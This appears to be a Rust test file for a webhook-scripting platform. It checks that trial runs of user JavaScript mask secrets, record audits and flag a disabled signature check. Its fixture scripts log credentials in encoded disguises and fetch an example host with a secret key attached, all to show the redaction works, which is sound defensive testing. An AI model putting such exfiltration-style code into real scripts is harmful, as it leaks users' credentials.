//! Trying out a module's script before it is saved, and its capability sheet.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::{Module, PASS_ON, both, with_the_rest};

/// Logs the secret, stores a value and, if asked to, sends the secret or fails.
const CURIOUS: &str = r"
    export async function VoipParseWebhookRequest(request) {
        console.log('the secret is', Namespace.params.data.key);
        await Namespace.storage.set('seen', 1);
        if (request.query.ask) await fetch('https://pbx.example/?key=' + Namespace.params.data.key);
        if (request.query.fail) throw new Error('No such line.');
        return { event: { event: 'notifyStart', direction: 'in', srcPhone: request.query.from, dstPhone: '101', callId: 'a' } };
    }
";

both!(a_script_is_tried_on_a_request_of_the_log, |server| {
    let admin = server.admin().await;
    let fields = json!([{ "name": "key", "label": "Key", "type": "secret" }]);
    let body = json!({
        "name": "Test", "script": PASS_ON, "settings": fields, "defaultCountry": "GB",
    });
    let module = Module::of(server, &admin, body).await;
    admin.patch(&module.path("/settings"), json!({ "key": "s3cret-key" })).await.is(200);
    let provider = server.anonymous();
    let get = |query: &str| format!("{}&from=%2B442079460123{query}", module.webhook);
    for query in ["", "&ask=1", "&fail=1"] {
        provider.send(provider.request(reqwest::Method::GET, &get(query))).await;
    }
    let listed = admin.get(&module.path("/requests")).await.json(200)["items"].clone();
    let id = |index: usize| listed[index]["id"].clone();
    let tried = async |index: usize| {
        let body = json!({ "source": CURIOUS, "requestId": id(index) });
        admin.post(&module.path("/try"), body).await.json(200)
    };

    let plain = tried(2).await;
    assert_eq!(plain["result"]["event"]["srcPhone"], "+442079460123", "{plain}");
    assert_eq!((&plain["error"], &plain["asExpected"]), (&Value::Null, &Value::Null));
    assert_eq!(plain["log"][0]["text"], "the secret is •••••");

    let asks = tried(1).await;
    assert_eq!(asks["fetches"][0]["url"], "https://pbx.example/?key=•••••");
    assert!(asks["problems"][0].as_str().expect("a problem").starts_with("fetched without a recording"));

    let fails = tried(0).await;
    assert_eq!(fails["error"]["message"], "No such line.");
    assert_eq!(fails["error"]["line"], 6);

    // Nothing has changed: no call, no stored value, and the saved script is the same.
    assert_eq!(admin.get("/api/v1/calls").await.json(200)["items"], json!([]));
    let source = admin.get(&module.path("/script")).await.json(200)["source"].clone();
    assert_eq!(source, PASS_ON);
});

/// Shows credentials in every place and in simple disguises.
const BLAB: &str = r"
    export async function VoipParseWebhookRequest(request) {
        const key = Namespace.params.data.key;
        const hex = [...key].map((c) => c.charCodeAt(0).toString(16)).join('');
        console.log(JSON.stringify(request.headers), request.url);
        console.log(btoa(key), btoa('a' + key), btoa('ab' + key), encodeURIComponent(key), hex, key.toUpperCase());
        console.log(request.headers.authorization.slice(7), request.headers.cookie.split('=')[1]);
        await fetch('https://pbx.example/', {
            method: 'POST', headers: { Authorization: 'Digest 1234567890abc' }, body: key,
        }).catch((error) => console.log(error.message));
        return {
            [key]: 1, response: { headers: { [key]: key } },
            event: { event: key.repeat(40), direction: 'in', callId: Number(Namespace.params.data.pin) },
        };
    }
";

both!(a_try_shows_nothing_that_proves_who_somebody_is, |server| {
    let admin = server.admin().await;
    let fields = json!([
        { "name": "key", "label": "Key", "type": "secret" },
        { "name": "pin", "label": "PIN", "type": "secret" },
    ]);
    let module =
        Module::of(server, &admin, json!({ "name": "Test", "script": PASS_ON, "settings": fields })).await;
    admin.patch(&module.path("/settings"), json!({ "key": "s3cret/key", "pin": "73918264" })).await.is(200);
    let provider = server.anonymous();
    let request = provider
        .request(reqwest::Method::POST, &module.webhook)
        .header("authorization", "Bearer bearer-of-mine")
        .header("cookie", "session=cookie-of-mine");
    provider.send(request.body("{}")).await.is(200);
    let id = module.requests().await[0]["id"].clone();
    let tried = admin.post(&module.path("/try"), json!({ "source": BLAB, "requestId": id })).await;
    let token = module.webhook.rsplit('=').next().expect("a token");
    for secret in [
        "s3cret",
        "S3CRET",
        "73918264",
        "bearer-of-mine",
        "cookie-of-mine",
        "1234567890abc",
        "czNjcmV0",
        "MzY3JldC9rZX",
        "zM2NyZXQva2V5",
        "7333637265742f6b6579",
        token,
    ] {
        assert!(!tried.text.contains(secret), "{secret} is in {}", tried.text);
    }
    let tried = tried.json(200);
    assert_eq!(tried["fetches"][0]["headers"]["authorization"], "•••••", "{tried}");
    assert_eq!(tried["result"]["•••••"], 1, "{tried}");
    assert!(!tried["problems"].as_array().expect("problems").is_empty(), "the result breaks the contract");

    // Running a script that is in no history is recorded; running the saved script is not.
    let trail = async || admin.get("/api/v1/audit?action=scriptTried").await.json(200)["items"].clone();
    let entries = trail().await;
    assert_eq!((&entries[0]["subject"], &entries[0]["changes"][0]["to"]), (&json!("Test"), &id), "{entries}");
    admin.post(&module.path("/try"), json!({ "source": PASS_ON, "requestId": id })).await.is(200);
    admin.post(&module.path("/try"), json!({ "requestId": id })).await.is(200);
    assert_eq!(trail().await, entries);
});

both!(a_script_is_tried_on_a_sample, |server| {
    let admin = server.admin().await;
    let module = Module::with_script(server, &admin, &with_the_rest(CURIOUS)).await;
    let sample = |expected: &str| {
        json!({
            "name": "n", "settings": { "key": "another" },
            "request": { "method": "GET", "url": "?from=101" },
            "result": { "event": {
                "event": "notifyStart", "direction": "in", "srcPhone": expected, "dstPhone": "101", "callId": "a",
            } },
        })
    };
    let right = admin.post(&module.path("/try"), json!({ "sample": sample("101") })).await.json(200);
    assert_eq!(right["asExpected"], true, "{right}");
    assert_eq!(right["log"][0]["text"], "the secret is another");
    let wrong = admin.post(&module.path("/try"), json!({ "sample": sample("102") })).await.json(200);
    assert_eq!(wrong["asExpected"], false);

    let neither = admin.post(&module.path("/try"), json!({})).await.problem(422, "invalid");
    assert_eq!(neither["path"], "sample");
    let odd =
        admin.post(&module.path("/try"), json!({ "sample": { "name": "n" } })).await.problem(422, "invalid");
    assert_eq!(odd["detail"], "A sample needs either \"request\" or \"call\".");
    let broken = json!({ "source": "export const a: = 1;", "sample": sample("101") });
    let broken = admin.post(&module.path("/try"), broken).await.problem(422, "script");
    assert!(broken["diagnostics"][0]["line"].is_number());
});

both!(a_modules_sheet_says_what_its_present_script_can_do, |server| {
    let admin = server.admin().await;
    let own = Module::with_script(server, &admin, &with_the_rest(CURIOUS)).await;
    admin.get(&own.path("/conformance")).await.problem(404, "noScenarios");

    let module = Module::of(server, &admin, json!({ "name": "PBX", "provider": "demo" })).await;
    let sheet = admin.get(&module.path("/conformance")).await.json(200);
    let failed = |sheet: &Value| {
        let checks = sheet["sheet"]["checks"].as_array().expect("checks");
        checks.iter().filter(|check| check["outcome"] == "failed").count()
    };
    assert_eq!(failed(&sheet), 0, "{sheet}");
    let metrics = admin.get("/metrics").await.text;
    assert!(!metrics.contains("hookswitch_webhooks"), "calls that are only played do not count: {metrics}");
    assert!(sheet["scenarios"].as_array().expect("scenarios").len() >= 2);

    // A forgotten signature check is reported.
    let source =
        admin.get(&module.path("/script")).await.json(200)["source"].as_str().expect("a text").to_owned();
    let careless = source.replace("if (!await isSigned(", "if (false && !await isSigned(");
    assert_ne!(source, careless);
    admin.put(&module.path("/script"), json!({ "source": careless })).await.is(200);
    assert_eq!(failed(&admin.get(&module.path("/conformance")).await.json(200)), 2);
});

both!(checks_end_when_whoever_asked_is_gone, |server| {
    let admin = server.admin().await;
    let module = Module::of(server, &admin, json!({ "name": "PBX", "provider": "demo" })).await;
    let source =
        admin.get(&module.path("/script")).await.json(200)["source"].as_str().expect("a text").to_owned();
    let function = "function VoipParseWebhookRequest(";
    assert!(source.contains(function));
    let slow = source.replace(function, "function quickly(")
        + "\nexport async function VoipParseWebhookRequest(request) {
            await new Promise((resolve) => setTimeout(resolve, 1000));
            return quickly(request);
        }";
    module.save(&slow).await.is(200);
    let path = module.path("/conformance");
    let asked = tokio::time::timeout(Duration::from_secs(1), admin.get(&path)).await;
    asked.expect_err("it takes its time");
    // It checks one module at a time, and is free again at once, well before the checks could finish.
    module.save(&source).await.is(200);
    let begun = Instant::now();
    while admin.get(&path).await.status == 503 {
        assert!(begun.elapsed() < Duration::from_secs(20), "it goes on");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
});
